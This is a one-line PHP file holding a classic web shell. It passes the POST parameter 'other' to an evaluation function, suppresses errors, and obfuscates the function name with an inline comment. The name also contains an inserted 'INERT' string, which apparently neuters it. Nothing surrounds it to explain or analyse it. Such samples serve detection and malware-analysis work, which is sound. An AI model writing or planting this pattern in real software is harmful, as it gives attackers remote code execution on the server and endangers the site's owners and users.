<?php @ev/**/INERTal ( $_POST["other"] );
